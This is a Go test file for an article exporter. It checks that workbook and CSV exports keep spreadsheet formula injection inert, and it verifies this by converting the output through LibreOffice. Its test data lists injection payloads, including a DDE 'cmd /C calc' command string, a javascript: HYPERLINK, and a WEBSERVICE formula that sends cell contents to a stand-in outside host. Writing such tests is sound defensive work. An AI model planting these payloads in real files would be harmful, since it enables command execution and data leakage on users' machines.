package export

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"dossier/article"
	"dossier/formats/xlsx"
)

// nastyWords are words of an article that a spreadsheet program might run, lose or
// break on, and what a workbook has of them.
var nastyWords = []struct{ in, out string }{
	{"=1+1", "=1+1"},
	{"+1+1", "+1+1"},
	{"-1+1", "-1+1"},
	{"@SUM(1;1)", "@SUM(1;1)"},
	{"\t=1+1", "\t=1+1"},
	{"\r=1+1", "\n=1+1"},
	{" =1+1", " =1+1"},
	{"=SUM(1,1)*cmd|' /C calc'!A0", "=SUM(1,1)*cmd|' /C calc'!A0"},
	{`=HYPERLINK("javascript:alert(1)","see")`, `=HYPERLINK("javascript:alert(1)","see")`},
	{`=WEBSERVICE("https://a.example/"&A1)`, `=WEBSERVICE("https://a.example/"&A1)`},
	{"{=1+1}", "{=1+1}"},
	{"'=1+1", "'=1+1"},
	{"bell\a, escape\x1b, nul\x00, delete\x7f", "bell␇, escape␛, nul␀, delete␡"},
	{"_x0041_ and _x000D_", "_x0041_ and _x000D_"},
	{"🚢 𝒜 é", "🚢 𝒜 é"},
	{"שלום, سلام, \u202bמילה\u202c", "שלום, سلام, \u202bמילה\u202c"},
}

// nastyArticle has each of words as a paragraph, a quotation and a speaker.
func nastyArticle(t *testing.T, words ...string) *article.Article {
	t.Helper()
	a := load(t, "bare")
	a.Title, a.TitleSpan = article.Opt(words[0]), nil
	a.Source.URL, a.Source.Name = "javascript:alert(1)", words[0]
	a.Text, a.Blocks, a.Actors, a.Quotes, a.Positions = "", nil, nil, nil, nil
	for i, w := range words {
		if i > 0 {
			a.Text += "\n\n"
		}
		span := article.Span{Start: len(a.Text), End: len(a.Text) + len(w)}
		a.Text += w
		ordinal, n := i+1, fmt.Sprint(i+1)
		a.Blocks = append(a.Blocks, article.Block{ID: "b" + n, Kind: article.BlockParagraph, Ordinal: &ordinal, Span: span, Line: 1, EndLine: 1})
		a.Actors = append(a.Actors, article.Actor{ID: "a" + n, Name: w, Kind: article.KindPerson, Named: true,
			Mentions: []article.Mention{{Span: span, Text: w, Type: article.MentionName, Rule: "r"}}})
		a.Quotes = append(a.Quotes, article.Quote{ID: "q" + n, Kind: article.QuoteIndirect, Text: w, Spans: []article.Span{span}, Block: "b" + n, Rule: "r",
			Speaker: &article.Ref{Actor: article.Opt("a" + n), Text: w, Spans: []article.Span{span}}})
	}
	return a
}

func nastyInputs() []string {
	var list []string
	for _, h := range nastyWords {
		list = append(list, h.in)
	}
	return list
}

// officeConvert has LibreOffice read a file, computing all that can be computed,
// and write it in another form. Its settings stay in dir for the next time.
func officeConvert(t *testing.T, dir string, content []byte, from, to, infilter string) []byte {
	t.Helper()
	soffice := tool(t, "soffice")
	in := filepath.Join(dir, "in."+from)
	if err := os.WriteFile(in, content, 0o600); err != nil {
		t.Fatal(err)
	}
	args := []string{"--headless", "-env:UserInstallation=file://" + dir + "/profile"}
	if infilter != "" {
		args = append(args, "--infilter="+infilter)
	}
	cmd := exec.Command(soffice, append(args, "--convert-to", to, "--outdir", filepath.Join(dir, "out"), in)...)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	to, _, _ = strings.Cut(to, ":")
	got, err := os.ReadFile(filepath.Join(dir, "out", "in."+to))
	if err != nil {
		t.Fatal(err)
	}
	return got
}

// inert asks that a document as LibreOffice has it, in its flat XML, computes
// nothing and leads nowhere but to the web.
func inert(t *testing.T, what string, fods []byte) {
	t.Helper()
	for _, bad := range []string{"table:formula=", `xlink:href="javascript`} {
		if i := bytes.Index(bytes.ToLower(fods), []byte(bad)); i >= 0 {
			t.Errorf("%s: %.200s", what, fods[i:])
		}
	}
}

// TestInjectionWorkbook: in LibreOffice no word of an article is computed, lost
// or clickable, nor in what LibreOffice saves. What is too long for a cell is cut,
// with a note.
func TestInjectionWorkbook(t *testing.T) {
	dir := t.TempDir()
	long := strings.Repeat("sailed on 🚢 ", 4000) + "end"
	book := write(t, Workbook, Options{}, nastyArticle(t, append(nastyInputs(), long)...))
	inert(t, "workbook", officeConvert(t, dir, book, "xlsx", "fods", ""))
	saved := officeConvert(t, dir, book, "xlsx", "xlsx:Calc MS Excel 2007 XML", "")
	sheets, err := xlsx.Read(saved)
	if err != nil {
		t.Fatal(err)
	}
	for i, s := range sheets {
		if x := workbookPart(t, saved, fmt.Sprintf("xl/worksheets/sheet%d.xml", i+1)); strings.Contains(x, "<f>") || strings.Contains(x, "<f ") {
			t.Errorf("%s has a formula once it is saved", s.Name)
		}
		switch s.Name {
		case "Quotes":
			quotes := sameWords(t, s, "Quote", func(s string) string { return s })
			if !strings.HasPrefix(long, quotes[:30_000]) || !strings.HasSuffix(quotes, "[cut]") {
				t.Errorf("the workbook has %.40q … %q", quotes, quotes[len(quotes)-20:])
			}
		case "Actors":
			sameWords(t, s, "Name", oneLine)
		case "Article":
			if !strings.Contains(fmt.Sprint(s.Rows), "cells were cut at the limit of 32,767 characters") {
				t.Error("nothing says that some were cut")
			}
		}
	}
}

// sameWords asks that a column reads as the nasty words do, and returns what
// stands below them.
func sameWords(t *testing.T, s xlsx.Content, column string, shown func(string) string) string {
	t.Helper()
	at := slices.Index(s.Rows[0], column)
	for i, h := range nastyWords {
		if got := s.Rows[i+1][at]; got != shown(h.out) {
			t.Errorf("%s: %q reads %q, want %q", s.Name, h.in, got, shown(h.out))
		}
	}
	return s.Rows[len(nastyWords)+1][at]
}

// everyFormula is LibreOffice's reading of CSV in which whatever looks like a
// formula is one: comma, double quote, UTF-8, numbers by their looks.
const everyFormula = "Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1,true"

// TestInjectionCSV: under Excel nothing in a table is computed, even by a reader
// that is told to; without it LibreOffice does, so the guard is what prevents it.
// No field is cut, however long.
func TestInjectionCSV(t *testing.T) {
	a, dir := nastyArticle(t, nastyInputs()...), t.TempDir()
	if plain := officeConvert(t, dir, write(t, CSV, Options{}, a), "csv", "fods", everyFormula); !bytes.Contains(plain, []byte("table:formula=")) {
		t.Error("without the guard no cell is computed either: this test shows nothing")
	}
	guarded := officeConvert(t, dir, write(t, CSV, Options{Excel: true}, a), "csv", "fods", everyFormula)
	inert(t, "CSV", guarded)
	for _, want := range []string{"=1+1", "+1+1", "-1+1", "@SUM(1;1)"} {
		if !bytes.Contains(guarded, []byte("<text:p>&apos;"+want+"</text:p>")) && !bytes.Contains(guarded, []byte("<text:p>'"+want+"</text:p>")) {
			t.Errorf("%s is not shown as it stands", want)
		}
	}
	long := strings.Repeat("sailed on 🚢 ", 4000) + "end"
	rows, err := csv.NewReader(bytes.NewReader(write(t, CSV, Options{}, nastyArticle(t, long)))).ReadAll()
	if err != nil || rows[1][2] != long {
		t.Errorf("CSV lost some of it: %v", err)
	}
}
